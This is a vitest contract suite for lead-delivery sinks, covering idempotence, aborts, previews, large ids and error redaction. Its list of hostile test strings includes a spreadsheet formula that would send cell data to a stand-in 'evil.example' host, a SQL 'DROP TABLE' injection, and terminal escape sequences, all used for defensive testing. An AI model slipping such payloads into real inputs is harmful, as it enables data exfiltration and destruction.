import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { MappedColumn } from '../../src/leads/mapped-fields.ts';
import type { Preview, Sink } from '../../src/sinks/sink.ts';
import type { SinkParts } from '../../src/sinks/sink-type.ts';
import { LeaseOver, SinkUnavailable } from '../../src/sinks/sink-unavailable.ts';
import { testBatch } from '../../src/sinks/test-batch.ts';
import { aBatch, aDelivery } from '../support/scene/a-delivery.ts';
import { aLead } from '../support/scene/a-lead.ts';
import { HeldClock } from '../support/time/held-clock.ts';

/** A lead as it is read back from a sink's destination, with what the destination's documentation says to undo undone. */
export interface Arrived {
  readonly source: string;
  readonly id: string;
  readonly client_name: string;
  readonly client_phone_number: string;
  readonly client_address: string | null;
  readonly all_details_one_liner: string;
  readonly answers: readonly { question: string; slug: string; answer: string }[];
}

/** A real destination of one type of sink, for one test. */
export interface Destination {
  /** A sink that delivers to it. Tests close it. */
  open(parts?: Partial<SinkParts>): Sink;
  /** A sink of this type whose destination cannot be used. */
  openUnavailable(): Sink;
  /** A sink of this type whose destination takes a batch and then says nothing. */
  openHanging(): Sink | Promise<Sink>;
  /** What a receiver has that follows the documentation: repeats recognised, in order of arrival. */
  arrived(): Promise<readonly Arrived[]>;
  /** What it has got, each thing as a preview shows it, and whatever came along. */
  received(): Promise<readonly Preview[]>;
  /** What the documentation says becomes of a text, and of one in an answer. */
  documented(text: string): string;
  documentedAnswer(text: string): string;
  /** The characters of the longest answer that the documentation allows. Default: a megabyte. */
  readonly longestAnswer?: number;
  /** Fields of a mapping that it lacks and can get. Default: two with names that suit most destinations. */
  readonly columns?: readonly MappedColumn[];
  /** Whether it keeps the version of a lead. Default: yes. */
  readonly keepsVersions?: boolean;
  close(): Promise<void>;
}

const NEVER = new AbortController().signal;

/** The fields of a mapping. */
const COLUMNS: readonly MappedColumn[] = [
  { name: 'leadsync_rooms', type: 'bigint' },
  { name: 'leadsync_answers', type: 'text' },
];

const OWN_STRINGS = [
  'NUL \0 in the middle',
  '\0',
  'a lone \ud800 high surrogate',
  '\udfff',
  'carriage\rreturn',
  'line\nfeed',
  'both\r\nof them',
  '\r',
  '\n',
  'line \u2028 and paragraph \u2029 separators',
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  ' \n=1+1',
  '\0=1+1',
  '＝1+1',
  "'=1+1",
  "''=1+1",
  "'plain",
  '+44 20 7946 0958',
  '-12.5',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007',
  '"',
  '""',
  ',',
  ' leading and trailing ',
  '',
  "'; DROP TABLE leads; --",
  '{"json":"\\u0000"}',
  '\\u0000',
  '{}',
  'NULL',
  '\ufeffmark',
  '\u202eright to left',
  '👩‍👩‍👧‍👦',
];

/** Strings that break things: our own, and the public list where it is there. */
function hostileStrings(): string[] {
  const list = fileURLToPath(
    new URL('../../../shared/corpora/big-list-of-naughty-strings/blns.json', import.meta.url),
  );
  if (existsSync(list)) return [...OWN_STRINGS, ...JSON.parse(readFileSync(list, 'utf8'))];
  process.stderr.write('The big list of naughty strings is not there: only our own strings are tested.\n');
  return OWN_STRINGS;
}

/** What every sink promises, whatever it delivers to. */
export function promisesOfEverySink(name: string, start: () => Promise<Destination>): void {
  describe(`every sink: ${name}`, () => {
    let destination: Destination;
    const open: Sink[] = [];
    const opened = (sink: Sink): Sink => {
      open.push(sink);
      return sink;
    };

    beforeEach(async () => {
      destination = await start();
    });

    afterEach(async () => {
      await Promise.all(open.splice(0).map((sink) => sink.close()));
      await destination.close();
    });

    test('each lead of a batch arrives once', async () => {
      const outcomes = await opened(destination.open()).deliver(aBatch(3), NEVER);
      expect(outcomes.map(({ kind }) => kind)).toEqual(['delivered', 'delivered', 'delivered']);
      expect((await destination.arrived()).map(({ id }) => id)).toEqual(['1', '2', '3']);
    });

    test('the same batch delivered again has the effect of delivering it once', async () => {
      await opened(destination.open()).deliver(aBatch(3), NEVER);
      const again = await opened(destination.open()).deliver(aBatch(3), NEVER);
      expect(again.map(({ kind }) => kind)).toEqual(['delivered', 'delivered', 'delivered']);
      expect((await destination.arrived()).map(({ id }) => id)).toEqual(['1', '2', '3']);
    });

    test.each([
      ['from the beginning', 0],
      ['before the second request', 1],
      ['before the third request', 2],
    ])(
      'once the lease of the attempt has ended, %s, nothing more arrives, and the outcomes are those of what arrived',
      async (_, looks) => {
        const sink = opened(destination.open());
        const before = await destination.arrived();
        let looked = 0;
        const confirmLease = () => {
          looked += 1;
          if (looked > looks) throw new LeaseOver();
        };
        const under = { timeLeftMs: () => 60_000, confirmLease };
        const outcomes = await sink.deliver(aBatch(3), NEVER, under).catch((error: unknown) => {
          expect(error).toBeInstanceOf(SinkUnavailable);
          return [];
        });
        expect(looked).toBeGreaterThan(0);
        const delivered = outcomes.filter(({ kind }) => kind === 'delivered').length;
        expect(await destination.arrived()).toHaveLength(before.length + delivered);
        if (looks === 0) expect(delivered).toBe(0);
      },
    );

    test('ids above 2^53 arrive to the last digit', async () => {
      const ids = [9_007_199_254_740_993n, 9_223_372_036_854_775_807n];
      await opened(destination.open()).deliver(aBatch(ids.map((leadId) => aDelivery({ leadId }))), NEVER);
      expect((await destination.arrived()).map(({ id }) => id)).toEqual(ids.map(String));
    });

    test('equal ids of two sources are two leads', async () => {
      const deliveries = ['main', 'other'].map((source) => aDelivery({ source, id: `${source}:42` }));
      await opened(destination.open()).deliver(aBatch(deliveries), NEVER);
      expect((await destination.arrived()).map(({ source, id }) => `${source} ${id}`)).toEqual([
        'main 42',
        'other 42',
      ]);
    });

    test('hostile text arrives as documented', async () => {
      const strings = hostileStrings();
      const deliveries = strings.map((text, index) =>
        aDelivery({ leadId: BigInt(index + 1), raw: hostileLead(index + 1, text) }),
      );
      const outcomes = await opened(destination.open()).deliver(aBatch(deliveries), NEVER);
      expect(outcomes.filter(({ kind }) => kind !== 'delivered')).toEqual([]);
      const arrived = await destination.arrived();
      expect(arrived.map(({ client_name }) => client_name)).toEqual(strings.map(destination.documented));
      expect(arrived.map(({ client_address }) => client_address)).toEqual(
        strings.map(destination.documented),
      );
      const answers = strings.map(destination.documentedAnswer);
      expect(arrived.map(({ answers }) => answers)).toEqual(
        answers.map((answer) => [{ question: 'Anything?', slug: answer, answer }]),
      );
    });

    test('an answer of a megabyte, or of the documented length, arrives as documented', async () => {
      const answer = 'é"\n'.repeat((destination.longestAnswer ?? 1_050_000) / 3);
      const raw = aLead({ service_question_answers: [{ question: 'Anything?', slug: 'any', answer }] });
      await opened(destination.open()).deliver(aBatch([aDelivery({ raw })]), NEVER);
      const [arrived] = await destination.arrived();
      expect(arrived?.answers[0]?.answer).toBe(destination.documentedAnswer(answer));
    });

    test('a lead without an address and without answers arrives', async () => {
      const raw = aLead({ client_address: null, service_question_answers: [] });
      await opened(destination.open()).deliver(aBatch([aDelivery({ raw })]), NEVER);
      const [arrived] = await destination.arrived();
      expect(arrived?.answers).toEqual([]);
      expect(arrived?.client_address ?? '').toBe('');
    });

    test('a check of a destination that works succeeds and leaves nothing behind', async () => {
      await opened(destination.open()).check(NEVER);
      expect(await destination.arrived()).toEqual([]);
    });

    test('missing parts are created one by one, even twice, and then nothing is missing', async () => {
      const sink = opened(destination.open());
      if (!sink.missingParts) return;
      const { columns = COLUMNS } = destination;
      const missing = await sink.missingParts(NEVER, columns);
      expect(missing).not.toEqual([]);
      for (const { what, how, make } of missing) {
        expect({ what, how }).toEqual({
          what: expect.stringMatching(/\S/),
          how: expect.stringMatching(/\S/),
        });
        await make(NEVER);
        await make(NEVER);
      }
      expect(await sink.missingParts(NEVER, columns)).toEqual([]);
      await sink.check(NEVER, columns);
      const fields = await sink.destinationFields?.(NEVER);
      const writable = fields?.filter((field) => field.writable).map(({ name }) => name);
      expect(writable).toEqual(expect.arrayContaining(columns.map(({ name }) => name)));
      await sink.deliver(aBatch(2), NEVER);
      expect((await destination.arrived()).map(({ id }) => id)).toEqual(['1', '2']);
    });

    test('a test event arrives, is marked as such, and is not a lead for the receiver', async () => {
      const { arrived, what } = await opened(destination.open()).test(aTest(), NEVER);
      expect({ arrived, what }).toEqual({ arrived: true, what: expect.stringMatching(/\.$/) });
      expect(await destination.arrived()).toEqual([]);
      const received = await destination.received();
      for (const { content } of received) expect(content).toMatch(/TEST of leadsync, not a lead/);
      await opened(destination.open()).deliver(aBatch(2), NEVER);
      expect((await destination.arrived()).map(({ id }) => id)).toEqual(['1', '2']);
    });

    test('a test event reports why a destination cannot be used', async () => {
      const tested = opened(destination.openUnavailable()).test(aTest(), NEVER);
      await expect(tested).rejects.toBeInstanceOf(SinkUnavailable);
    });

    test('a preview shows what the destination then receives, and sends nothing', async () => {
      const sink = opened(destination.open({ clock: new HeldClock() }));
      const previews = sink.preview(aBatch(3)).map(readable);
      expect(previews).not.toEqual([]);
      expect(await destination.received()).toEqual([]);
      await sink.deliver(aBatch(3), NEVER);
      const received = (await destination.received()).map(readable);
      expect(received).toEqual(
        previews.map((shown) => ({ ...shown, fields: expect.objectContaining(shown.fields) })),
      );
    });

    test('a destination that cannot be used is unavailable, with the next step', async () => {
      const sink = opened(destination.openUnavailable());
      const delivered = await sink.deliver(aBatch(2), NEVER).catch((error: unknown) => error);
      expect(delivered).toBeInstanceOf(SinkUnavailable);
      const checked = await sink.check(NEVER).catch((error: unknown) => error);
      expect(checked).toBeInstanceOf(SinkUnavailable);
      expect((checked as SinkUnavailable).hint).not.toBe('');
    });

    test('an abort ends an attempt that hangs', async () => {
      const sink = opened(await destination.openHanging());
      const abort = new AbortController();
      const attempt = sink.deliver(aBatch(1), abort.signal).catch((error: unknown) => error);
      setTimeout(() => abort.abort(), 100);
      const startedAt = performance.now();
      expect(await attempt).toBeInstanceOf(SinkUnavailable);
      expect(performance.now() - startedAt).toBeLessThan(2_000);
    });

    test('an attempt that begins after the abort sends nothing', async () => {
      const attempt = opened(destination.open()).deliver(aBatch(1), AbortSignal.abort());
      await expect(attempt).rejects.toBeInstanceOf(SinkUnavailable);
      expect(await destination.arrived()).toEqual([]);
    });

    test('the stored leads have source, id and version, once and to the last digit', async () => {
      const sink = opened(destination.open());
      if (!sink.storedLeads) return;
      const ids = [1n, 9_223_372_036_854_775_807n];
      const held = ids.map((leadId) =>
        aDelivery({ leadId, version: 3, id: `sink:main:${leadId}:3:0123abcd` }),
      );
      await sink.deliver(aBatch(held), NEVER);
      const told: unknown[] = [];
      for await (const { source, leadId, version } of sink.storedLeads(NEVER))
        told.push([source, leadId, version]);
      expect(told).toHaveLength(ids.length);
      const versions = ids.map((leadId) => [
        'main',
        leadId,
        destination.keepsVersions === false ? undefined : 3,
      ]);
      expect(told).toEqual(expect.arrayContaining(versions));
    });

    test('an abort ends the reading of the stored leads as it ends an attempt', async () => {
      const sink = opened(destination.open());
      if (!sink.storedLeads) return expect(sink.erase).toBeUndefined();
      const held = [1n, 2n].map((leadId) => aDelivery({ leadId, id: `sink:main:${leadId}:1:0123abcd` }));
      await sink.deliver(aBatch(held), NEVER);
      const abort = new AbortController();
      const reading = sink.storedLeads(abort.signal)[Symbol.asyncIterator]();
      expect((await reading.next()).done).toBe(false);
      abort.abort();
      const failed = (async () => {
        while (!(await reading.next()).done);
      })();
      await expect(failed).rejects.toBeInstanceOf(SinkUnavailable);
    });

    test('an error contains no text of a lead', async () => {
      const canary = 'canary-7f3a';
      const raw = aLead({ client_name: canary, client_email: `${canary}@example.com`, created_at: canary });
      const batch = aBatch([aDelivery({ raw })]);
      const error = await opened(destination.openUnavailable())
        .deliver(batch, NEVER)
        .catch((error: unknown) => error);
      expect(`${(error as Error).message} ${(error as SinkUnavailable).hint}`).not.toContain(canary);
    });

    test('it can be closed twice, and without use', async () => {
      const sink = destination.open();
      await sink.close();
      await sink.close();
    });
  });
}

/** JSON in a field is as good in any spelling. */
function readable(preview: Preview) {
  const read = ([name, value]: [string, unknown]) => [
    name,
    typeof value === 'string' && /^[[{]/.test(value) && value !== '[secret]' ? JSON.parse(value) : value,
  ];
  return { ...preview, fields: Object.fromEntries(Object.entries(preview.fields).map(read)) };
}

function aTest() {
  return testBatch('sink', new Date('2026-11-20T10:00:00.000Z'));
}

function hostileLead(id: number, text: string): string {
  return aLead({
    id,
    client_name: text,
    client_address: { friendly_address: text },
    all_details_one_liner: text,
    service_question_answers: [{ question: 'Anything?', slug: text, answer: text }],
  });
}
